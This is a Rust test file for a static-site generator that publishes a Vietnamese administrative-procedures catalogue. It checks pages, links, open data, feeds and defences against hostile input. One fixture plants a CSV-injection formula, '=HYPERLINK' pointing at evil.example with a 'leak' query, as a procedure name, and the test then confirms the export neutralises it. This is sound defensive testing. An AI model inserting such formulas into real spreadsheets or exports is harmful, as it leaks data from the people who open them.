//! `procat build`, seen from the outside: what a citizen finds in the built site.
//!
//! Each scenario is built once and shared between the tests that look at it
//! (the machine has two cores).

use procat::build::{BuildError, BuildOptions, BuildSummary, build};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

fn date(s: &str) -> procat::model::Date {
    s.parse().unwrap_or_else(|e| panic!("bad date {s}: {e}"))
}

/// A fresh folder for one scenario, under cargo's scratch space for tests.
fn scratch(name: &str) -> PathBuf {
    tempfile::Builder::new()
        .prefix(&format!("procat-site-{name}-"))
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap_or_else(|e| panic!("scratch dir: {e}"))
        .keep()
}

fn options(content: &Path, output: &Path, as_of: &str, base_url: Option<&str>) -> BuildOptions {
    BuildOptions {
        content: content.to_path_buf(),
        output: output.to_path_buf(),
        as_of: date(as_of),
        base_url: base_url.map(str::to_string),
        progress: false,
    }
}

fn built(opts: &BuildOptions) -> BuildSummary {
    match build(opts) {
        Ok(summary) => summary,
        Err(e) => panic!("build of {} failed:\n{e}", opts.content.display()),
    }
}

const SAMPLE_AS_OF: &str = "2026-11-26";

/// The sample catalogue, built at the root of its site.
fn sample() -> &'static Path {
    static SAMPLE: OnceLock<PathBuf> = OnceLock::new();
    SAMPLE.get_or_init(|| {
        let out = scratch("sample").join("output");
        built(&options(Path::new("content"), &out, SAMPLE_AS_OF, None));
        out
    })
}

/// The small fixture (English, with hostile Markdown), built under a sub-path.
fn small_under_subpath() -> &'static Path {
    static SMALL: OnceLock<PathBuf> = OnceLock::new();
    SMALL.get_or_init(|| {
        let out = scratch("small").join("output");
        built(&options(
            Path::new("tests/fixtures/site-small"),
            &out,
            "2025-01-01",
            Some("https://example.gov.vn/thu-tuc"),
        ));
        out
    })
}

fn read(root: &Path, rel: &str) -> String {
    fs::read_to_string(root.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn files_under(root: &Path) -> BTreeMap<String, Vec<u8>> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, Vec<u8>>) {
        let mut entries: Vec<_> = fs::read_dir(dir)
            .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
            .flatten()
            .map(|e| e.path())
            .collect();
        entries.sort();
        for path in entries {
            if path.is_dir() {
                walk(root, &path, out);
            } else {
                let rel = path
                    .strip_prefix(root)
                    .map(|r| r.to_string_lossy().replace('\\', "/"))
                    .unwrap_or_default();
                out.insert(rel, fs::read(&path).unwrap_or_default());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// The tags of an HTML page (`a href=…`, without `<` and `>`). Text never holds
/// a literal `<` (it is escaped), so splitting on it finds every tag; the one
/// exception, `<title>` (where the minifier may leave `<` as it is), is skipped.
fn tags(html: &str) -> Vec<&str> {
    let (head, rest) = html.split_once("<title>").unwrap_or((html, ""));
    let rest = rest.split_once("</title>").map(|(_, r)| r).unwrap_or(rest);
    let mut out = tags_of(head);
    out.extend(tags_of(rest));
    out
}

fn tags_of(s: &str) -> Vec<&str> {
    s.split('<')
        .skip(1)
        .map(|t| t.split('>').next().unwrap_or(""))
        .collect()
}

/// Every `href` and `src` value in an HTML page (quoted or not, as minified).
fn links(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in tags(html) {
        links_in_tag(tag, &mut found);
    }
    found
}

fn links_in_tag(tag: &str, found: &mut Vec<String>) {
    for attr in [" href=", " src="] {
        let mut rest = tag;
        while let Some(i) = rest.find(attr) {
            rest = &rest[i + attr.len()..];
            let value = match rest.chars().next() {
                Some(q @ ('"' | '\'')) => rest[1..].split(q).next().unwrap_or(""),
                _ => rest.split([' ', '>']).next().unwrap_or(""),
            };
            found.push(value.replace("&amp;", "&"));
        }
    }
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%'
            && i + 2 < bytes.len()
            && let Ok(b) = u8::from_str_radix(&s[i + 1..i + 3], 16)
        {
            out.push(b);
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Checks that every internal link of every page resolves to a file of the output.
fn assert_links_resolve(root: &Path, base_path: &str) {
    let mut broken = Vec::new();
    let mut checked = 0;
    for (rel, bytes) in files_under(root) {
        if !rel.ends_with(".html") {
            continue;
        }
        let html = String::from_utf8_lossy(&bytes);
        for link in links(&html) {
            if link.starts_with('#')
                || link.starts_with("https://")
                || link.starts_with("http://")
                || link.starts_with("mailto:")
                || link.starts_with("tel:")
            {
                continue;
            }
            let path = link.split(['#', '?']).next().unwrap_or("");
            let absolute;
            let path = if path.starts_with('/') {
                path
            } else {
                // Relative to the page's folder (`search/index.html` → `/search/`).
                let dir = rel.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
                let mut parts: Vec<&str> = dir.split('/').filter(|p| !p.is_empty()).collect();
                for part in path.split('/') {
                    match part {
                        ".." => {
                            parts.pop();
                        }
                        "." | "" => {}
                        other => parts.push(other),
                    }
                }
                let trailing = if path.ends_with('/') || path.is_empty() {
                    "/"
                } else {
                    ""
                };
                absolute = format!("{base_path}{}{trailing}", parts.join("/"));
                &absolute
            };
            let Some(inside) = path.strip_prefix(base_path) else {
                broken.push(format!("{rel}: {link} (outside {base_path})"));
                continue;
            };
            let mut target = percent_decode(inside);
            if target.is_empty() || target.ends_with('/') {
                target.push_str("index.html");
            }
            checked += 1;
            if !root.join(&target).is_file() {
                broken.push(format!("{rel}: {link}"));
            }
        }
    }
    assert!(checked > 0, "no links found");
    assert!(broken.is_empty(), "broken links:\n{}", broken.join("\n"));
}

// ---------------------------------------------------------------- the sample

#[test]
fn every_page_kind_of_the_sample_is_built() {
    let site = sample();
    for rel in [
        "index.html",
        "404.html",
        "robots.txt",
        "sitemap.xml",
        "feed.xml",
        "data/procedures.json",
        "data/procedures.csv",
        "static/style.css",
        "procedures/1.001193/index.html",
        "localities/hai-duong/index.html",
        "localities/viet-nam/index.html",
        "localities/xa-cam-vu/index.html",
        "decisions/index.html",
        "decisions/qd-3150-ubnd-2023/index.html",
        "agencies/index.html",
        "sectors/ho-tich/index.html",
        "status/current/index.html",
        "status/amended/index.html",
        "status/replaced/index.html",
        "status/abolished/index.html",
        "status/upcoming/index.html",
    ] {
        assert!(site.join(rel).is_file(), "{rel} is missing");
    }
    let home = read(site, "index.html");
    assert!(
        home.contains("action=/search/") || home.contains("action=\"/search/\""),
        "search box"
    );
    assert!(home.contains("name=q"), "search box field");
    assert!(
        home.contains("localities/hai-duong/"),
        "entry point by locality"
    );
    assert!(home.contains("sectors/ho-tich/"), "entry point by sector");
    assert!(home.contains("status/abolished/"), "counts by status");
}

#[test]
fn every_internal_link_of_the_sample_resolves() {
    assert_links_resolve(sample(), "/");
}

#[test]
fn a_procedure_page_shows_its_fields_steps_forms_history_and_structured_data() {
    let page = read(sample(), "procedures/1.001193/index.html");
    assert!(page.contains("Đăng ký khai sinh"));
    assert!(
        page.contains("Trình tự thực hiện") || page.contains("<h2>"),
        "steps"
    );
    assert!(page.contains("Lịch sử công bố"), "history");
    assert!(
        page.contains("/decisions/qd-2418-btp-2023/"),
        "history links to decisions"
    );
    assert!(page.contains("/files/"), "a form to download");
    assert!(page.contains("application/ld+json"));
    assert!(page.contains("GovernmentService"));
    assert!(page.contains("Ngày có hiệu lực"));
}

#[test]
fn an_abolished_procedure_says_so_and_names_the_decision() {
    let page = read(sample(), "procedures/1.009796/index.html");
    assert!(
        page.contains("Thủ tục này đã bị bãi bỏ"),
        "abolished notice"
    );
    assert!(page.contains("3150/QĐ-UBND"), "names the decision");
    assert!(page.contains("/decisions/qd-3150-ubnd-2023/"));
}

#[test]
fn a_procedure_abolished_in_one_district_shows_current_elsewhere() {
    let site = sample();
    let page = read(site, "procedures/1.009799/index.html");
    assert!(
        page.contains("tag--current"),
        "current at the top territory"
    );
    assert!(
        page.contains("tag--abolished"),
        "abolished where it differs"
    );
    assert!(page.contains("Huyện Cẩm Giàng"));
    let abolished_there = read(site, "localities/huyen-cam-giang/index.html");
    let entry = |html: &str| {
        let at = html
            .find("/procedures/1.009799/")
            .unwrap_or_else(|| panic!("1.009799 not listed"));
        html[at..].split("</li>").next().unwrap_or("").to_string()
    };
    assert!(entry(&abolished_there).contains("tag--abolished"));
    let current_there = read(site, "localities/thanh-pho-hai-duong/index.html");
    assert!(entry(&current_there).contains("tag--current"));
}

#[test]
fn an_upcoming_change_shows_its_date() {
    let site = sample();
    let new_one = read(site, "procedures/1.013650/index.html");
    assert!(new_one.contains("tag--upcoming"));
    assert!(new_one.contains("01/03/2027"), "the date it takes effect");
    let abolished_later = read(site, "procedures/2.000716/index.html");
    assert!(
        abolished_later.contains("tag--current"),
        "current until then"
    );
    assert!(abolished_later.contains("Thay đổi sắp có hiệu lực"));
    assert!(abolished_later.contains("01/03/2027"));
    let upcoming = read(site, "status/upcoming/index.html");
    assert!(upcoming.contains("/procedures/1.013650/"));
    assert!(upcoming.contains("/procedures/2.000716/"));
}

#[test]
fn locality_pages_list_their_level_and_link_up_and_down_the_tree() {
    let site = sample();
    let province = read(site, "localities/hai-duong/index.html");
    assert!(province.contains("/localities/viet-nam/"), "up");
    assert!(province.contains("/localities/huyen-cam-giang/"), "down");
    assert!(
        !province.contains("/localities/xa-cam-vu/"),
        "only direct children"
    );
    let commune = read(site, "localities/xa-cam-vu/index.html");
    assert!(commune.contains("/localities/huyen-cam-giang/"), "up");
    // Commune-level procedures inherited from the national and provincial decisions.
    assert!(commune.contains("/procedures/1.001193/"));
    assert!(
        !commune.contains("/procedures/1.009799/"),
        "district-level procedures are not commune-level"
    );
}

#[test]
fn open_data_lists_every_procedure_with_sorted_keys_as_the_spec_says() {
    let site = sample();
    let raw = read(site, "data/procedures.json");
    let json: serde_json::Value = serde_json::from_str(&raw).unwrap_or_else(|e| panic!("{e}"));
    // serde_json's map is sorted: writing the parsed value back gives the same text
    // only if every object's keys were sorted.
    assert_eq!(json.to_string(), raw, "keys are sorted");
    assert_eq!(json["as_of"], SAMPLE_AS_OF);
    let procedures = json["procedures"].as_array().cloned().unwrap_or_default();
    let codes: Vec<&str> = procedures
        .iter()
        .filter_map(|p| p["code"].as_str())
        .collect();
    let mut sorted = codes.clone();
    sorted.sort();
    assert_eq!(codes, sorted, "procedures sorted by code");
    let find = |code: &str| {
        procedures
            .iter()
            .find(|p| p["code"] == code)
            .cloned()
            .unwrap_or_else(|| panic!("{code} missing"))
    };
    let district = find("1.009799");
    assert_eq!(district["status"]["huyen-cam-giang"], "abolished");
    assert_eq!(district["status"]["hai-duong"], "current");
    assert_eq!(district["url"], "procedures/1.009799/");
    let replaced = find("1.003583");
    assert_eq!(replaced["status"]["viet-nam"], "replaced");
    assert_eq!(replaced["replaced_by"]["viet-nam"], "1.012840");
    let successor = find("1.012840");
    let replaces = successor["history"]
        .as_array()
        .and_then(|h| h.iter().find(|e| e["action"] == "replaces").cloned())
        .unwrap_or_else(|| panic!("no replaces event"));
    assert_eq!(replaces["replaces"], "1.003583");
    assert_eq!(replaces["by"], serde_json::Value::Null);
    let first = &find("1.001193")["history"][0];
    for key in [
        "action",
        "by",
        "changes",
        "decision",
        "effective",
        "locality",
        "number",
    ] {
        assert!(first.get(key).is_some(), "history events carry `{key}`");
    }
    let csv = read(site, "data/procedures.csv");
    assert_eq!(
        csv.lines().count(),
        procedures.len() + 1,
        "one row per procedure"
    );
}

#[test]
fn the_sitemap_and_the_feed_point_at_the_pages() {
    let site = sample();
    let sitemap = read(site, "sitemap.xml");
    assert!(sitemap.contains("<loc>https://thutuc.haiduong.example/procedures/1.001193/</loc>"));
    let feed = read(site, "feed.xml");
    assert!(feed.contains("http://www.w3.org/2005/Atom"));
    let newest = feed
        .find("decisions/qd-2890-ubnd-2026/")
        .unwrap_or(usize::MAX);
    let older = feed.find("decisions/qd-2418-btp-2023/").unwrap_or(0);
    assert!(newest < older, "decisions newest first");
}

#[test]
fn building_twice_gives_the_same_bytes() {
    let again = scratch("again").join("output");
    built(&options(Path::new("content"), &again, SAMPLE_AS_OF, None));
    let (a, b) = (files_under(sample()), files_under(&again));
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    for (rel, bytes) in &a {
        assert!(b.get(rel) == Some(bytes), "{rel} differs between builds");
    }
}

// ---------------------------------------------------------------- the small fixture

#[test]
fn a_site_under_a_sub_path_links_within_it() {
    let site = small_under_subpath();
    let home = read(site, "index.html");
    assert!(home.contains("/thu-tuc/static/style.css"));
    assert_links_resolve(site, "/thu-tuc/");
}

#[test]
fn scripts_event_handlers_and_javascript_urls_do_not_reach_the_pages() {
    let site = small_under_subpath();
    for (rel, bytes) in files_under(site) {
        if !rel.ends_with(".html") {
            continue;
        }
        let html = String::from_utf8_lossy(&bytes);
        for tag in tags(&html) {
            let lower = tag.to_lowercase();
            let name = lower.split([' ', '/']).next().unwrap_or("");
            // The only scripts are the theme's own: JSON-LD data, and on the
            // search page its data block and client.
            let theme_script = lower.starts_with("script type=application/ld+json")
                || (rel == "search/index.html"
                    && (lower.starts_with("script id=search-text type=application/json")
                        || lower.starts_with("script id=search-root type=application/json")
                        || lower.contains("static/search.js")));
            assert!(
                name != "script" || theme_script,
                "{rel}: a script element <{tag}>"
            );
            assert!(
                !matches!(name, "img" | "iframe" | "object" | "embed" | "b"),
                "{rel}: raw HTML <{tag}>"
            );
            assert!(
                !lower.contains("javascript:"),
                "{rel}: a javascript: URL in <{tag}>"
            );
            assert!(!lower.contains(" on"), "{rel}: an event handler in <{tag}>");
        }
    }
    let page = read(site, "procedures/9.000001/index.html");
    assert!(page.contains("<table>"), "Markdown tables");
    assert!(page.contains("fn-a"), "Markdown footnotes");
    assert!(
        page.contains("href=https://example.vn/") || page.contains("href=\"https://example.vn/\"")
    );
    assert!(
        page.contains("/thu-tuc/files/to-khai.pdf"),
        "relative links from the site root"
    );
}

#[test]
fn interface_strings_follow_the_site_language() {
    let page = read(small_under_subpath(), "procedures/1.001193/index.html");
    assert!(page.contains("lang=en"));
    assert!(page.contains("Skip to main content"));
    assert!(page.contains("Where it applies"));
}

// ---------------------------------------------------------------- writing

#[test]
fn a_failing_build_keeps_the_previous_output() {
    let dir = scratch("failing");
    let content = dir.join("content");
    copy_dir(Path::new("tests/fixtures/site-small"), &content);
    let output = dir.join("output");
    built(&options(&content, &output, "2025-01-01", None));
    let before = files_under(&output);

    fs::write(
        content.join("procedures/9.000002.yaml"),
        "code: \"9.000002\"\nname: Broken\nsecotr: ho-tich\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    match build(&options(&content, &output, "2025-01-01", None)) {
        Err(BuildError::Invalid(diagnostics)) => assert!(diagnostics.iter().any(|d| d.is_error())),
        Err(other) => panic!("expected catalogue errors, got {other}"),
        Ok(_) => panic!("a catalogue with errors was built"),
    }
    assert_eq!(
        before,
        files_under(&output),
        "the previous output is untouched"
    );
    let leftovers: Vec<_> = fs::read_dir(&dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(
        leftovers.len(),
        2,
        "no staging folder left behind: {leftovers:?}"
    );
}

#[test]
fn files_that_no_longer_exist_are_gone_after_a_rebuild() {
    let dir = scratch("stale");
    let output = dir.join("output");
    built(&options(
        Path::new("tests/fixtures/site-small"),
        &output,
        "2025-01-01",
        None,
    ));
    fs::write(output.join("procedures/stale.html"), "old").unwrap_or_else(|e| panic!("{e}"));
    let summary = built(&options(
        Path::new("tests/fixtures/site-small"),
        &output,
        "2025-01-01",
        None,
    ));
    assert!(!output.join("procedures/stale.html").exists());
    assert!(summary.pages > 0 && summary.files >= summary.pages);
    assert!(summary.to_string().starts_with("built "));
}

fn copy_dir(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap_or_else(|e| panic!("{e}"));
    for entry in fs::read_dir(from)
        .unwrap_or_else(|e| panic!("{e}"))
        .flatten()
    {
        let path = entry.path();
        let target = to.join(entry.file_name());
        if path.is_dir() {
            copy_dir(&path, &target);
        } else {
            fs::copy(&path, &target).unwrap_or_else(|e| panic!("{e}"));
        }
    }
}

// ---------------------------------------------------------------- hostile text in names

/// The small fixture with names an attacker would write: the page-assembly marker
/// (old and new) in a commune's name, a spreadsheet formula as a procedure's name.
fn hostile_names() -> &'static Path {
    static HOSTILE: OnceLock<PathBuf> = OnceLock::new();
    HOSTILE.get_or_init(|| {
        let dir = scratch("hostile");
        let content = dir.join("content");
        copy_dir(Path::new("tests/fixtures/site-small"), &content);
        let edit = |rel: &str, from: &str, to: &str| {
            let path = content.join(rel);
            let text = fs::read_to_string(&path).unwrap_or_else(|e| panic!("{rel}: {e}"));
            assert!(text.contains(from), "{rel} lacks {from}");
            fs::write(&path, text.replacen(from, to, 1)).unwrap_or_else(|e| panic!("{e}"));
        };
        edit(
            "localities.yaml",
            "name: Xã A1",
            "name: 'Xã A1 PROCAT_SHARED_FRAGMENT_SLOT <procat-shared-fragment-slot></procat-shared-fragment-slot>'",
        );
        edit(
            "procedures/1.000894.yaml",
            "name: Đăng ký kết hôn",
            "name: '=HYPERLINK(\"http://evil.example/?leak\",\"Đăng ký kết hôn\")'",
        );
        let out = dir.join("output");
        built(&options(&content, &out, "2025-01-01", None));
        out
    })
}

#[test]
fn a_name_holding_the_page_marker_does_not_move_the_procedure_list_into_the_head() {
    let site = hostile_names();
    for rel in [
        "localities/xa-a1/index.html",
        "localities/huyen-a/index.html",
    ] {
        let page = read(site, rel);
        let (head, body) = page
            .split_once("</head>")
            .unwrap_or_else(|| panic!("{rel}"));
        assert!(
            page.contains("PROCAT_SHARED_FRAGMENT_SLOT"),
            "{rel}: the name is shown"
        );
        for tag in ["<section", "<ul", "<li>", "<h3", "procedure-list"] {
            assert!(!head.contains(tag), "{rel}: `{tag}` in the head: {head}");
        }
        // The title may show the name's `<` unescaped (the minifier may write it so
        // there), yet nothing was spliced at it, nor anywhere else.
        assert!(
            !body.contains("<procat-shared-fragment-slot"),
            "{rel}: {body}"
        );
        let lists = body.matches("procedure-list").count();
        assert!(lists >= 1, "{rel}: the list is in the body: {body}");
        assert_eq!(page.matches("procedure-list").count(), lists, "{rel}");
    }
}

#[test]
fn a_formula_in_a_name_is_neutralised_in_procedures_csv() {
    let csv = read(hostile_names(), "data/procedures.csv");
    assert!(
        csv.contains(
            ",\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Đăng ký kết hôn\"\")\","
        ),
        "{csv}"
    );
    assert!(!csv.contains(",\"=HYPERLINK"), "{csv}");
}

#[test]
fn the_feed_and_the_sitemap_stay_well_formed_whatever_the_titles_hold() {
    use procat::render::{Output, RenderContext, Renderer, feeds};
    let mut loaded = procat::load::load(Path::new("tests/fixtures/site-small"))
        .unwrap_or_else(|e| panic!("{e}"));
    let cat = &mut loaded.catalogue;
    let hostile = "a\u{0}b\u{1}c\u{b}d\u{1f}e\u{fffe}f\u{ffff}g\u{7f}\u{85} <&>\"' ]]>";
    for d in &mut cat.decisions {
        d.title = format!("{hostile} {}", d.title);
        d.number = hostile.to_string();
    }
    for l in &mut cat.localities {
        l.name = hostile.to_string();
    }
    let mut site = cat.site.clone().unwrap_or_else(|| panic!("no site"));
    site.title = hostile.to_string();
    site.description = Some(hostile.to_string());
    let resolved = procat::resolve::resolve(cat, date("2025-01-01"));
    let ctx = RenderContext {
        resolved: &resolved,
        site: &site,
        base_path: "/".to_string(),
        theme: &procat::render::theme::Theme::locate(&cat.root, "default")
            .unwrap_or_else(|e| panic!("{e}")),
    };
    let dir = scratch("xml");
    let out = Output::new(dir.clone());
    feeds::Sitemap
        .render(&ctx, &out)
        .unwrap_or_else(|e| panic!("{e}"));
    feeds::AtomFeed
        .render(&ctx, &out)
        .unwrap_or_else(|e| panic!("{e}"));
    for name in ["feed.xml", "sitemap.xml"] {
        let text = read(&dir, name);
        if let Err(e) = roxmltree::Document::parse(&text) {
            panic!("{name} is not well-formed XML: {e}\n{text}");
        }
    }
    let feed = read(&dir, "feed.xml");
    let doc = roxmltree::Document::parse(&feed).unwrap_or_else(|e| panic!("{e}"));
    let title = doc
        .descendants()
        .find(|n| n.has_tag_name("title"))
        .and_then(|n| n.text())
        .unwrap_or_default();
    assert!(title.starts_with("a\u{fffd}b\u{fffd}c"), "{title:?}");
    assert!(title.ends_with("<&>\"' ]]>"), "{title:?}");
}

#[test]
fn a_base_url_option_is_held_to_the_rules_of_base_url_in_site_yaml() {
    for url in [
        "https://thutuc.example.gov.vn/?preview=1",
        "https://thu tuc.example.gov.vn/",
        "https://",
        "www.thutuc.example.gov.vn",
    ] {
        let out = scratch("base-url").join("output");
        let opts = options(
            Path::new("tests/fixtures/site-small"),
            &out,
            "2025-01-01",
            Some(url),
        );
        match build(&opts) {
            Err(BuildError::Fatal(message)) => {
                assert!(message.contains("--base-url"), "{url}: {message}")
            }
            Err(other) => panic!("{url}: expected a refusal of --base-url, got {other}"),
            Ok(_) => panic!("{url}: built with an invalid --base-url"),
        }
        assert!(!out.exists(), "{url}: nothing is written");
    }
}
